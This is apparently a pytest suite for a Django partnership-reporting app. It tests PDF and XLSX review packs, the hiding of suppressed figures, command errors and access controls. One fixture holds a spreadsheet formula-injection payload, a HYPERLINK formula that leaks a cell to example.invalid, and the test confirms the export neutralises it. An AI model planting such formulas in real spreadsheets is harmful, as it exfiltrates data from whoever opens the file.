"""Review packs on the Northshire demo: the PDF of the mental-health partnership (each section, page numbers,
tagged), its XLSX (one table a sheet, hidden figures as the symbol, formula-like text neutralised), a hidden
figure kept out of both (an attacker reading the files), `joinedup report` and its errors, the partner pack,
and the web journey (queued, made in the worker, downloaded only with EXPORT). The demo is built once and
each pack rendered once for the module (rolled back at the end)."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import transaction
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader

from joinedup.core.choices import JobStatus
from joinedup.core.jobs import job_run_here
from joinedup.core.models import Job
from joinedup.demo.northshire import build_northshire
from joinedup.register.models import PartnershipRole
from joinedup.reports.choices import PACK_JOB
from joinedup.reports.pack import SYMBOL
from joinedup.voice.models import YouSaidWeDid
from joinedup.voice.selectors import results as feedback_results

pytestmark = pytest.mark.django_db

SECTIONS = [
    "Agreement",
    "Latest assessment",
    "Working relationships",
    "Indicators: variation and assurance",
    'Feedback and "you said, we did"',
    "Governance: attendance, actions and disputes",
    "Warning flags",
    "Integration ladder: how deep the joint working goes",
]
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'


@pytest.fixture(scope="module")
def demo(django_db_setup: Any, django_db_blocker: Any, tmp_path_factory: Any) -> Iterator[dict[str, Any]]:
    with django_db_blocker.unblock(), transaction.atomic():
        built = build_northshire()
        mh = built["partnerships"]["mh"]
        # text someone typed that a spreadsheet would run as a formula
        entry = YouSaidWeDid.objects.filter(partnership=mh).order_by("-recorded_on", "-pk").first()
        assert entry is not None
        YouSaidWeDid.objects.filter(pk=entry.pk).update(you_said=FORMULA)
        out = tmp_path_factory.mktemp("packs")
        files = {}
        for kind in ("pdf", "xlsx"):
            files[kind] = out / f"mh.{kind}"
            call_command(
                "report", str(mh.pk), "--format", kind, "--out", str(files[kind]), stdout=io.StringIO()
            )
        yield {**built, "mh": mh, "files": files, "out": out}
        transaction.set_rollback(True)


@pytest.fixture(scope="module")
def pdf(demo: dict[str, Any]) -> PdfReader:
    return PdfReader(demo["files"]["pdf"])


@pytest.fixture(scope="module")
def pdf_text(pdf: PdfReader) -> list[str]:
    return [page.extract_text() for page in pdf.pages]


@pytest.fixture(scope="module")
def book(demo: dict[str, Any]) -> Any:
    return openpyxl.load_workbook(demo["files"]["xlsx"])


def test_the_pdf_holds_every_section_with_its_page_in_the_contents(pdf_text: list[str]) -> None:
    cover = pdf_text[0]
    assert "Northshire Community Mental Health Partnership: partnership review pack" in cover
    for title in SECTIONS:
        listed = re.search(re.escape(title) + r"\s*\.+\s*page (\d+)", cover)
        assert listed, f"{title!r} is not in the contents with a page number"
        page = int(listed.group(1))
        assert pdf_text[page - 1].lstrip().startswith(title), f"{title!r} is not on page {page}"


def test_every_page_says_its_number_and_the_total(pdf_text: list[str]) -> None:
    total = len(pdf_text)
    assert total > 5
    for number, text in enumerate(pdf_text, start=1):
        assert f"Page {number} of {total}" in text


def test_the_pdf_is_tagged_for_screen_readers_and_titled(pdf: PdfReader) -> None:
    root = pdf.trailer["/Root"]
    assert bool(root["/MarkInfo"]["/Marked"])
    assert "/StructTreeRoot" in root
    assert root["/Lang"] == "en-GB"
    assert pdf.metadata is not None and pdf.metadata.title.endswith("partnership review pack")


def test_the_charts_are_drawn_as_vector_images_with_their_words(pdf: PdfReader, pdf_text: list[str]) -> None:
    text = "\n".join(pdf_text)
    # the words inside the charts (axis titles) are text in the PDF, not pixels
    assert "Profile by organisation" in text and "Mean score" in text
    assert "Very good or good, by month" in text and "Per cent" in text
    assert "Map of the working relationships" in text and "Ties (given and received)" in text
    images = [name for page in pdf.pages for name in page.images]
    assert images == []  # no raster image anywhere: every chart is vector


def test_the_xlsx_has_a_sheet_for_each_table_and_a_key(book: Any) -> None:
    names = book.sheetnames
    assert names[0] == "Contents"
    for sheet in ("Agreements", "Assessment", "By organisation", "Indicators", "Feedback by month", "Flags"):
        assert sheet in names
    contents = [[c for c in row if c is not None] for row in book["Contents"].iter_rows(values_only=True)]
    assert contents[3][:2] == ["Key", SYMBOL] and "confidentiality" in contents[3][2]
    listed = {row[0] for row in contents[6:]}
    assert listed == set(names[1:])
    indicators = list(book["Indicator figures"].iter_rows(min_row=4, values_only=True))
    assert indicators and all(isinstance(row[2], float | int) for row in indicators)  # figures stay numbers


def test_formula_like_text_is_written_as_text(book: Any) -> None:
    cells = [c for row in book["You said, we did"].iter_rows(min_row=4, values_only=True) for c in row]
    assert "'" + FORMULA in cells
    every = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for c in row
        if isinstance(c, str)
    ]
    assert not [c for c in every if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_hidden_months_figures_are_in_neither_file(
    demo: dict[str, Any], book: Any, pdf_text: list[str]
) -> None:
    """An attacker with both files cannot read a month disclosure control hid: its row holds only the symbol."""
    released = feedback_results(partnership=demo["mh"])
    hidden = [f.label for f in released.by_month if not f.shown]
    assert hidden, "the demo's feedback has a hidden month"
    rows = {row[0]: row for row in book["Feedback by month"].iter_rows(min_row=4, values_only=True)}
    text = "\n".join(pdf_text)
    for label in hidden:
        assert rows[label][1:] == (SYMBOL, SYMBOL)
        line = next(line for line in text.splitlines() if line.startswith(label))
        assert line.replace(label, "").split() == [SYMBOL, SYMBOL], line
    shown = next(f for f in released.by_month if f.shown)
    assert rows[shown.label][1:] == (shown.answers, shown.share)


def test_the_command_names_what_it_cannot_find(demo: dict[str, Any]) -> None:
    mh, out = demo["mh"], str(demo["out"] / "x.pdf")
    cases = [
        (["9999", "--out", out], "No partnership is numbered or called '9999'"),
        ([str(mh.pk), "--partner", "Nobody Ltd", "--out", out], "No current member organisation"),
        ([str(mh.pk), "--format", "docx", "--out", out], "--format 'docx': choose one of pdf, html, xlsx"),
        ([str(mh.pk), "--out", "/no/such/folder/x.pdf"], "the folder /no/such/folder does not exist"),
    ]
    for args, message in cases:
        with pytest.raises(CommandError, match=re.escape(message)) as raised:
            call_command("report", *args)
        assert raised.value.returncode == 2
    assert not Path(out).exists()


def test_a_partners_pack_is_the_partnership_seen_for_that_member(demo: dict[str, Any]) -> None:
    out = demo["out"] / "mind.html"
    call_command(
        "report", demo["mh"].name, "--partner", "Northshire Mind", "--format", "html", "--out", str(out)
    )
    html = out.read_text(encoding="utf-8")
    assert "Northshire Mind: governance pack for Northshire Community Mental Health Partnership" in html
    assert "Northshire Mind in this partnership" in html and "Signatures on the agreements in force" in html
    assert "Someone attended for Northshire Mind at" in html
    assert html.index("Northshire Mind in this partnership") < html.index('id="agreement-title"')


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_pack_is_made_in_the_worker_and_downloaded_with_export(
    demo: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    mh, evaluator = demo["mh"], demo["users"]["evaluator"]
    client = _client(evaluator)
    form = client.get(reverse("reports:pack", args=[mh.pk]))
    assert form.status_code == 200 and "Download a review pack" in form.content.decode()
    with django_capture_on_commit_callbacks(execute=False):
        response = client.post(
            reverse("reports:pack", args=[mh.pk]), {"partner": "partnership", "format": "xlsx"}
        )
    job = Job.objects.get(kind=PACK_JOB, created_by=evaluator)
    assert response.status_code == 302 and response["Location"] == reverse("core:job", args=[job.pk])
    assert job.status == JobStatus.QUEUED and job.payload is None  # nothing rendered in the request
    job_run_here(str(job.pk))  # what the worker does
    job.refresh_from_db()
    assert job.status == JobStatus.DONE, job.error
    page = client.get(reverse("core:job", args=[job.pk])).content.decode()
    download = reverse("reports:download", args=[job.pk])
    assert download in page
    got = client.get(download)
    assert got.status_code == 200 and got["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in got["Content-Disposition"] and ".xlsx" in got["Content-Disposition"]
    assert openpyxl.load_workbook(io.BytesIO(got.content)).sheetnames[0] == "Contents"

    # the right is checked again at download: the evaluator made an observer can no longer take it away
    PartnershipRole.objects.filter(user=evaluator, partnership=mh).update(role="observer")
    refused = _client(evaluator).get(download)
    assert refused.status_code == 403


def test_an_observer_may_neither_ask_for_a_pack_nor_print_minutes(demo: dict[str, Any]) -> None:
    mh, observer = demo["mh"], demo["users"]["observer"]
    client = _client(observer)
    assert client.get(reverse("reports:pack", args=[mh.pk])).status_code == 403
    assert client.post(reverse("reports:pack", args=[mh.pk]), {"format": "pdf"}).status_code == 403
    meeting = mh.meetings.filter(state="held").first()
    assert client.get(reverse("reports:minutes_pdf", args=[meeting.pk])).status_code == 403
    assert not Job.objects.filter(kind=PACK_JOB, created_by=observer).exists()


def test_a_meetings_minutes_come_as_a_pdf(demo: dict[str, Any]) -> None:
    mh = demo["mh"]
    meeting = mh.meetings.filter(state="held").order_by("-start").first()
    got = _client(demo["users"]["coordinator"]).get(reverse("reports:minutes_pdf", args=[meeting.pk]))
    assert got.status_code == 200 and got["Content-Type"] == "application/pdf"
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(got.content)).pages)
    assert f"Minutes: {meeting.title}" in text and "Present" in text and "Page 1 of" in text


def test_the_partnership_page_offers_packs_only_to_those_who_may_take_figures_away(
    demo: dict[str, Any],
) -> None:
    mh, url = demo["mh"], reverse("register:partnership_detail", args=[demo["mh"].pk])
    pack_url = reverse("reports:pack", args=[mh.pk])
    assert pack_url in _client(demo["users"]["coordinator"]).get(url).content.decode()
    assert pack_url not in _client(demo["users"]["observer"]).get(url).content.decode()
